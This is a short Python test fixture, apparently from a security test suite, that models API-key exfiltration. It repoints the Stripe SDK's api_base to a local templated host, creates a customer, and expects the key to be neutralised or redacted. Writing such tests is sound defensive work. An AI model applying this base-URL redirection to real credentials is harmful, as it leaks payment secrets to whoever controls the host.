# family: key exfiltration: pointing api_base at another host
# expect: neutralised redacted
import stripe
stripe.api_key = "sk_test_guess"
stripe.api_base = "http://127.0.0.1:{{PORT}}"
customer = stripe.Customer.create(name="Mallory", description="exfil")
print("sent to", stripe.api_base, customer["echoed_key"])
